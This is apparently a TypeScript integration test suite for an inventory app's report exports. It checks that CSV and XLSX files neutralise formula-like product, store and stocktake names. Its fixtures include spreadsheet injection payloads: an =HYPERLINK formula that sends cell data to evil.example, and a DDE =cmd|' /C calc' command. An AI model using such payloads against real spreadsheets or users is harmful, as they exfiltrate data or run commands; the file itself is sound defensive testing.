import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { randomInt, randomUUID } from 'node:crypto';
import { mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Writable } from 'node:stream';
import { pipeline } from 'node:stream/promises';
import { Client } from 'pg';
import { to as copyTo } from 'pg-copy-streams';
import { FORMULA_NEUTRALISING_CASES, FORMULA_TRIGGERS, neutraliseFormula } from '@stockfleet/shared';
import { chainDetailQuery, DETAIL_COLUMNS, DETAIL_NUMERIC, formulaSafe } from '../../src/reports/render/report-sql';
import { bootApp, type TestApp } from '../utils/test-app';
import type { HttpClient } from '../utils/http';
import { createStore, newGtin13, signedIn } from '../utils/factories';
import { enrolTill } from '../utils/till-client';
import { SimTill } from '../utils/sim-till';
import { until } from '../utils/until';

const TEXT_COLUMNS = DETAIL_COLUMNS.filter((c) => !DETAIL_NUMERIC.has(c));
const startsWithTrigger = (v: string) => v.length > 0 && FORMULA_TRIGGERS.includes(v[0]);
// XML keeps no bare CR: a reader of an XLSX gets LF where a CR was written.
const asXlsxReadsIt = (v: string) => v.replace(/\r\n?/g, '\n');

describe('formulaSafe (the SQL side of the rule)', () => {
  let pg: Client;
  beforeAll(async () => {
    pg = new Client({ connectionString: process.env.SF_TEST_DATABASE_URL });
    await pg.connect();
  });
  afterAll(() => pg.end());

  it('gives what neutraliseFormula gives, case by case, and leaves null alone', async () => {
    const inputs = FORMULA_NEUTRALISING_CASES.map(([input]) => input);
    const { rows } = await pg.query<{ out: string | null }>(`select ${formulaSafe('t.x')} as out from unnest($1::text[]) with ordinality as t(x, i) order by t.i`, [inputs]);
    expect(rows.map((r) => r.out)).toEqual(FORMULA_NEUTRALISING_CASES.map(([, output]) => output));
    expect(rows.map((r) => r.out)).toEqual(inputs.map(neutraliseFormula));
    const { rows: [nothing] } = await pg.query<{ out: string | null }>(`select ${formulaSafe('null::text')} as out`);
    expect(nothing.out).toBeNull();
  });
});

/**
 * Products named like spreadsheet formulas, counted and approved through tills and the API: every
 * report file writes their text formula-safe, while the catalogue keeps the names as they were given.
 */
describe('Reports with formula-like text', () => {
  let t: TestApp;
  let admin: HttpClient;
  let till: SimTill;
  let pg: Client;
  const reportsDir = mkdtempSync(join(tmpdir(), 'sf-reports-fi-'));
  const tag = randomUUID().slice(0, 6);
  const stocktakeName = `=HYPERLINK("http://evil.example/?d="&A1,"Open") ${tag}`;
  const storeName = `@Store ${tag}`;
  const regionName = `+Region ${tag}`;
  // Through the API: what an outside attacker with a catalogue login can type.
  const typed = [
    { sku: `-${randomInt(1e8, 1e9)}`, name: `=cmd|' /C calc'!A0`, category: `=Snacks ${tag}`, counted: 8 }, // a SKU that reads as a negative number
    { sku: `FI-${tag}-2`, name: '@SUM(1)', category: `@Drinks ${tag}`, counted: 10 },
    { sku: `FI-${tag}-3`, name: '+1', category: `+Frozen ${tag}`, counted: 12 },
    { sku: `FI-${tag}-4`, name: '-1', category: `-Bakery ${tag}`, counted: 9 },
  ];
  // Written before text was checked on the way in (the API refuses control characters now): left uncounted.
  const legacy = { sku: `FI-${tag}-5`, name: '\r=1+1', category: `\tLegacy ${tag}` };
  const products: Array<{ id: string; sku: string; name: string; category: string; counted?: number }> = [];
  let stocktakeId: string;
  let store: Awaited<ReturnType<typeof createStore>>;

  const waitDone = (id: string) =>
    until(() => admin.get(`/api/reports/${id}`).then((r) => r.body), (r) => r.status === 'done' || r.status === 'failed', `report ${id} done`, 45_000);
  const file = (report: { id: string; files: Array<{ format: string; fileName: string }> }, format: string) =>
    join(reportsDir, report.id, report.files.find((f) => f.format === format)!.fileName);
  const original = (sku: string) => products.find((p) => p.sku === sku)!;

  beforeAll(async () => {
    t = await bootApp({ RUN_WORKERS: 'true', REPORTS_DIR: reportsDir });
    admin = await signedIn(t.url, t.em(), 'admin');
    pg = new Client({ connectionString: process.env.SF_TEST_DATABASE_URL });
    await pg.connect();

    store = await createStore(t.em());
    await pg.query(`update store set name = $1 where id = $2`, [storeName, store.id]);
    await pg.query(`update region set name = $1 where id = $2`, [regionName, store.regionId]);
    for (const p of typed) {
      const res = await admin.post('/api/products', { sku: p.sku, name: p.name, category: p.category, unitCostCents: 250, barcodes: [{ code: newGtin13() }] });
      expect(res.status).toBe(201);
      expect(res.body).toMatchObject({ name: p.name, category: p.category });
      products.push({ id: res.body.id, ...p });
    }
    const legacyId = randomUUID();
    await pg.query(`insert into product (id, sku, name, category, unit_cost_cents, unit_price_cents, uom, low_stock_threshold, created_at, updated_at)
                    values ($1, $2, $3, $4, 250, 300, 'piece', 0, now(), now())`, [legacyId, legacy.sku, legacy.name, legacy.category]);
    products.push({ id: legacyId, ...legacy });
    expect((await admin.post('/api/stock/receipts', { idempotencyKey: `fi-${randomUUID()}`, storeId: store.id, lines: products.map((p) => ({ productId: p.id, quantity: 10 })) })).status).toBe(201);

    const e = await enrolTill(t.url, admin, store.id, 'FI1');
    till = new SimTill(t.url, e.token, store.id, e.terminalId);
    await till.connected();
    const created = await admin.post('/api/stocktakes', {
      name: stocktakeName,
      scope: { kind: 'stores', storeIds: [store.id], filter: { kind: 'products', productIds: products.map((p) => p.id) } },
      thresholds: { quantity: 1000, percent: 100, valueCents: 10_000_000 },
    });
    expect(created.status).toBe(201);
    stocktakeId = created.body.id;
    const get = () => admin.get(`/api/stocktakes/${stocktakeId}`).then((r) => r.body);
    expect((await admin.post(`/api/stocktakes/${stocktakeId}/start`)).status).toBe(200);
    await until(get, (st) => st.stores[0].status === 'counting', 'counting');
    const zone = store.zones[0].id;
    await till.count(stocktakeId, products.filter((p) => p.counted !== undefined).map((p) => ({ zoneId: zone, productId: p.id, quantity: p.counted })));
    expect((await admin.post(`/api/stocktakes/${stocktakeId}/stores/${store.id}/close`)).status).toBe(200);
    expect((await admin.post(`/api/stocktakes/${stocktakeId}/stores/${store.id}/approve`)).status).toBe(200);
    await until(get, (st) => st.status === 'done', 'stocktake done');
  });
  afterAll(async () => {
    till?.close();
    await pg?.end();
    await t?.close();
  });

  /** The detail rows of a variance CSV: text columns formula-safe, numbers as numbers. */
  function checkDetailCsv(path: string) {
    const rows = parse(readFileSync(path), { bom: true, columns: true }) as Array<Record<string, string>>;
    expect(rows).toHaveLength(products.length);
    for (const row of rows) {
      const sku = row.sku.replace(/^'/, '');
      const p = original(sku);
      expect(row).toMatchObject({ sku: neutraliseFormula(p.sku), product: `'${p.name}`, category: `'${p.category}`, store_name: `'${storeName}`, region: `'${regionName}`, store_code: store.code });
      for (const c of TEXT_COLUMNS) expect(startsWithTrigger(row[c])).toBe(false);
      for (const c of DETAIL_NUMERIC) expect(Number.isFinite(Number(row[c]))).toBe(true);
    }
    expect(rows.find((r) => r.sku === `'${typed[0].sku}`)).toMatchObject({ counted: '8', variance: '-2', variance_value: '-5.00' }); // negative numbers stay bare
    expect(rows.find((r) => r.sku === legacy.sku)).toMatchObject({ uncounted: 'true', product: `'\r=1+1`, category: `'\tLegacy ${tag}` });
    return rows;
  }

  /** Every string cell of every sheet formula-safe and a string, never a formula; returns the Detail sheet by column. */
  async function checkWorkbook(path: string) {
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(path);
    let strings = 0;
    for (const ws of wb.worksheets) {
      ws.eachRow((row) => row.eachCell((cell) => {
        expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
        expect(cell.formula).toBeUndefined();
        if (typeof cell.value === 'string') {
          strings++;
          expect(startsWithTrigger(cell.value)).toBe(false);
        }
      }));
    }
    expect(strings).toBeGreaterThan(0);
    return wb;
  }

  it('writes the per-store variance report formula-safe in CSV and XLSX; numbers stay numbers, the catalogue keeps its names', async () => {
    const req = await admin.post('/api/reports', { kind: 'store_variance', stocktakeId, storeId: store.id });
    expect(req.status).toBe(201);
    const report = await waitDone(req.body.id);
    expect(report.status).toBe('done');
    checkDetailCsv(file(report, 'csv'));

    const wb = await checkWorkbook(file(report, 'xlsx'));
    const detail = wb.getWorksheet('Detail')!;
    const header = (detail.getRow(1).values as unknown[]).slice(1) as string[];
    const cell = (r: number, c: string) => detail.getRow(r).getCell(header.indexOf(c) + 1);
    expect(detail.rowCount).toBe(1 + products.length);
    for (let r = 2; r <= detail.rowCount; r++) {
      const p = original(String(cell(r, 'sku').value).replace(/^'/, ''));
      expect(cell(r, 'product').value).toBe(asXlsxReadsIt(`'${p.name}`));
      expect(cell(r, 'category').value).toBe(`'${p.category}`);
      expect(cell(r, 'sku').type).toBe(ExcelJS.ValueType.String);
      for (const c of DETAIL_NUMERIC) expect(cell(r, c).type).toBe(ExcelJS.ValueType.Number);
    }
    const first = [...Array(detail.rowCount - 1).keys()].map((i) => i + 2).find((r) => cell(r, 'sku').value === `'${typed[0].sku}`)!;
    expect([cell(first, 'variance').value, cell(first, 'variance_value').value]).toEqual([-2, -5]);

    const summary = Object.fromEntries((wb.getWorksheet('Summary')!.getSheetValues().slice(2) as unknown[][]).map((r) => [r[1], r[2]]));
    expect(summary.Stocktake).toBe(`'${stocktakeName}`);
    expect(summary['Net variance value']).toBe(-5 + 5 - 2.5); // −2, +2, −1 units at 2.50
    const byStore = wb.getWorksheet('By store')!;
    expect([byStore.getCell('B2').value, byStore.getCell('C2').value]).toEqual([`'${storeName}`, `'${regionName}`]);
    const categories = (wb.getWorksheet('By category')!.getSheetValues().slice(2) as unknown[][]).map((r) => r[1]).sort();
    expect(categories).toEqual(products.map((p) => `'${p.category}`).sort());
    const uncounted = wb.getWorksheet('Uncounted')!.getRow(2);
    expect([uncounted.getCell(2).value, uncounted.getCell(3).value, uncounted.getCell(4).value]).toEqual([legacy.sku, asXlsxReadsIt(`'${legacy.name}`), `'${legacy.category}`]);

    // Only the files changed: the catalogue (database and API) has the names exactly as given.
    for (const p of products) {
      const api = await admin.get(`/api/products/${p.id}`);
      expect(api.body).toMatchObject({ sku: p.sku, name: p.name, category: p.category });
    }
    const { rows } = await pg.query<{ name: string; category: string }>(`select name, category from stocktake_line where stocktake_id = $1 order by sku`, [stocktakeId]);
    expect(rows.map((r) => r.name).sort()).toEqual(products.map((p) => p.name).sort());
  });

  it('writes the consolidated chain report formula-safe, byte for byte one plain COPY of the chain query', async () => {
    const list = await until(() => admin.get(`/api/reports?stocktakeId=${stocktakeId}&kind=chain_variance`).then((r) => r.body), (l) => l.length >= 1, 'chain report queued');
    const report = await waitDone(list[0].id);
    expect(report.status).toBe('done');
    checkDetailCsv(file(report, 'csv'));
    await checkWorkbook(file(report, 'xlsx'));

    // What the benchmark compares the report with: a BOM, the header, then COPY of the chain query.
    const chunks: Buffer[] = [];
    await pipeline(pg.query(copyTo(`COPY (${chainDetailQuery(stocktakeId)}) TO STDOUT (FORMAT csv)`)), new Writable({ write: (c, _e, cb) => { chunks.push(c); cb(); } }));
    const plain = Buffer.concat([Buffer.from(`\ufeff${DETAIL_COLUMNS.join(',')}\n`), ...chunks]);
    expect(readFileSync(file(report, 'csv')).equals(plain)).toBe(true);
  });

  it('writes the slow-movers report formula-safe in CSV and XLSX', async () => {
    const req = await admin.post('/api/reports', { kind: 'slow_movers', storeIds: [store.id], windowDays: 30, maxUnitsSold: 0 });
    expect(req.status).toBe(201);
    const report = await waitDone(req.body.id);
    expect(report.status).toBe('done');
    const rows = parse(readFileSync(file(report, 'csv')), { bom: true, columns: true }) as Array<Record<string, string>>;
    expect(rows).toHaveLength(products.length); // nothing sold, everything on the shelf
    for (const row of rows) {
      const p = original(row.sku.replace(/^'/, ''));
      expect(row).toMatchObject({ product: `'${p.name}`, category: `'${p.category}`, store_name: `'${storeName}` });
      expect(Number.isFinite(Number(row.on_hand))).toBe(true);
    }
    const wb = await checkWorkbook(file(report, 'xlsx'));
    const sheet = wb.getWorksheet('Slow movers')!;
    expect(sheet.rowCount).toBe(1 + products.length);
    expect(sheet.getRow(2).getCell(6).type).toBe(ExcelJS.ValueType.Number); // on_hand
  });
});
